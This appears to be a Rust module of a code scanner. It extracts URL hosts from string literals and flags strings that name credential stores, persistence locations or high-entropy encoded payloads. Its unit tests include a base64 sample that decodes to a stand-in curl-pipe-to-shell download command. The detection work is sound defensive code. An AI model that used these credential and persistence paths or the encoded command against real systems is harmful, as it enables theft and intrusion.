//! Checks on the content of string literals, shared by every language: URLs (hosts used),
//! credential stores, persistence targets, high-entropy payloads.

use crate::out::{Loc, Out};
use crate::rules::R;

/// Stands for a part of a string the scanner could not evaluate.
pub(crate) const UNKNOWN: char = '\u{0}';

/// `host:port` of every URL in `s` whose authority is fully known, with the scheme's port
/// when none is written. Hosts are lowercased; a trailing dot is dropped.
pub(crate) fn url_hosts(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let lower = s.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower[from..].find("://") {
        let at = from + i;
        from = at + 3;
        let scheme_start = lower[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+')
            .map_or(0, |p| p + 1);
        let default_port = match &lower[scheme_start..at] {
            "https" | "wss" => 443,
            "http" | "ws" => 80,
            "ftp" => 21,
            _ => continue,
        };
        let rest = &lower[at + 3..];
        let end = rest
            .find(|c: char| {
                matches!(c, '/' | '?' | '#') || c.is_whitespace() || "\"'`<>)".contains(c)
            })
            .unwrap_or(rest.len());
        let authority = &rest[..end];
        let hostport = authority.rsplit('@').next().unwrap_or(authority);
        if let Some(hp) = host_port(hostport, default_port) {
            out.push(hp);
        }
    }
    out
}

/// `host[:port]` (or `[v6]:port`) to `host:port` when it is a plausible literal host.
pub(crate) fn host_port(s: &str, default_port: u16) -> Option<String> {
    if s.contains(UNKNOWN) || s.is_empty() {
        return None;
    }
    let (host, port) = if let Some(v6) = s.strip_prefix('[') {
        let (h, rest) = v6.split_once(']')?;
        let port = match rest.strip_prefix(':') {
            Some(p) => p.parse().ok()?,
            None if rest.is_empty() => default_port,
            None => return None,
        };
        (format!("[{h}]"), port)
    } else {
        let (h, port) = match s.rsplit_once(':') {
            Some((h, p)) => (h, p.parse().ok()?),
            None => (s, default_port),
        };
        (h.trim_end_matches('.').to_owned(), port)
    };
    let plausible = host.starts_with('[')
        || (!host.is_empty()
            && host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
            && (host.contains('.') || host == "localhost"));
    plausible.then(|| format!("{}:{port}", host.to_ascii_lowercase()))
}

const CREDENTIAL_COMPONENTS: &[&str] = &[
    ".ssh",
    ".aws",
    ".netrc",
    "_netrc",
    ".gnupg",
    ".kube",
    ".git-credentials",
    ".pypirc",
    ".npmrc",
    ".docker",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
];
const CREDENTIAL_SUBSTRINGS: &[&str] = &["/etc/shadow", "/etc/sudoers", ".config/gcloud"];

const PERSISTENCE_COMPONENTS: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    "authorized_keys",
    "crontab",
    "sitecustomize.py",
    "sitecustomize",
    "usercustomize.py",
    "usercustomize",
    "launchagents",
    "autostart",
];
const PERSISTENCE_SUBSTRINGS: &[&str] = &[
    ".git/hooks",
    "/etc/cron",
    "/etc/profile",
    "/etc/rc.local",
    "/etc/init.d",
    ".config/systemd",
    "/etc/systemd",
];

fn components(s: &str) -> impl Iterator<Item = &str> {
    s.split(|c: char| c == '/' || c == '\\' || c.is_whitespace() || c == UNKNOWN)
        .filter(|c| !c.is_empty())
}

/// The credential store `s` names, if any.
pub(crate) fn credential_target(s: &str) -> Option<String> {
    if s.len() > 512 {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    if let Some(c) = components(&lower).find(|c| CREDENTIAL_COMPONENTS.contains(c)) {
        return Some(c.to_owned());
    }
    CREDENTIAL_SUBSTRINGS
        .iter()
        .find(|p| lower.contains(*p))
        .map(|p| (*p).to_owned())
}

/// The persistence target `s` names, if any.
pub(crate) fn persistence_target(s: &str) -> Option<String> {
    if s.len() > 512 {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    if let Some(c) = components(&lower)
        .find(|c| PERSISTENCE_COMPONENTS.contains(c) || (c.ends_with(".pth") && c.len() > 4))
    {
        return Some(c.to_owned());
    }
    PERSISTENCE_SUBSTRINGS
        .iter()
        .find(|p| lower.contains(*p))
        .map(|p| (*p).to_owned())
}

/// Shannon entropy in bits per character.
pub(crate) fn entropy(s: &str) -> f64 {
    let mut counts = std::collections::HashMap::new();
    let mut n = 0usize;
    for c in s.chars() {
        *counts.entry(c).or_insert(0usize) += 1;
        n += 1;
    }
    if n == 0 {
        return 0.0;
    }
    let n = n as f64;
    counts
        .values()
        .map(|&k| {
            let p = k as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Whether `s` looks like an encoded payload: long, no spaces, and dense.
pub(crate) fn looks_encoded(s: &str) -> bool {
    let len = s.chars().count();
    if len < 120 || s.contains(char::is_whitespace) {
        return false;
    }
    let hex = s.chars().all(|c| c.is_ascii_hexdigit());
    if hex {
        return len >= 256;
    }
    entropy(s) >= 4.8
}

/// Runs the content checks on one literal; `call_site` says whether it is the argument of a
/// network call (its hosts are then certainly contacted).
pub(crate) fn check_literal(out: &mut Out, loc: &Loc, s: &str, call_site: bool) {
    for hp in url_hosts(s) {
        out.usage.host(hp, loc, call_site);
    }
    if let Some(t) = credential_target(s) {
        out.emit(
            R::CredentialPath,
            loc,
            format!("string names the credential store `{t}`"),
        );
    }
    if let Some(t) = persistence_target(s) {
        out.emit(
            R::Persistence,
            loc,
            format!("string names the persistence target `{t}`"),
        );
    }
    if looks_encoded(s) {
        out.emit(
            R::HighEntropyString,
            loc,
            format!(
                "string literal of {} characters with {:.1} bits of entropy per character",
                s.chars().count(),
                entropy(s)
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_from_urls() {
        assert_eq!(
            url_hosts("see https://API.Example.com/v1?x=1 and http://h.org:8080/"),
            vec!["api.example.com:443", "h.org:8080"]
        );
        assert_eq!(
            url_hosts("wss://user:pw@ws.example.net"),
            vec!["ws.example.net:443"]
        );
        assert_eq!(
            url_hosts("https://[2001:db8::1]:8443/x"),
            vec!["[2001:db8::1]:8443"]
        );
        assert!(url_hosts("file:///etc/passwd").is_empty());
        assert!(url_hosts("https://\u{0}/x").is_empty());
        assert!(url_hosts("https://{host}/x").is_empty());
    }

    #[test]
    fn credential_and_persistence_targets() {
        assert_eq!(credential_target("~/.ssh/id_rsa").as_deref(), Some(".ssh"));
        assert_eq!(
            credential_target("id_ed25519").as_deref(),
            Some("id_ed25519")
        );
        assert_eq!(
            credential_target("/etc/shadow").as_deref(),
            Some("/etc/shadow")
        );
        assert_eq!(credential_target("ssh is a protocol"), None);
        assert_eq!(persistence_target("~/.bashrc").as_deref(), Some(".bashrc"));
        assert_eq!(persistence_target("evil.pth").as_deref(), Some("evil.pth"));
        assert_eq!(
            persistence_target(".git/hooks/pre-commit").as_deref(),
            Some(".git/hooks")
        );
        assert_eq!(persistence_target("a profile of the user"), None);
    }

    #[test]
    fn entropy_separates_payloads_from_prose() {
        let b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2gnKTsgcHJpbnQoJ2RvbmUnKSAjIHBhZGRpbmcgcGFkZGluZyBwYWRkaW5n";
        assert!(looks_encoded(b64));
        assert!(!looks_encoded(&"ab".repeat(100)));
        assert!(!looks_encoded(
            "The quick brown fox jumps over the lazy dog again and again and again and again and again and again and again."
        ));
    }
}
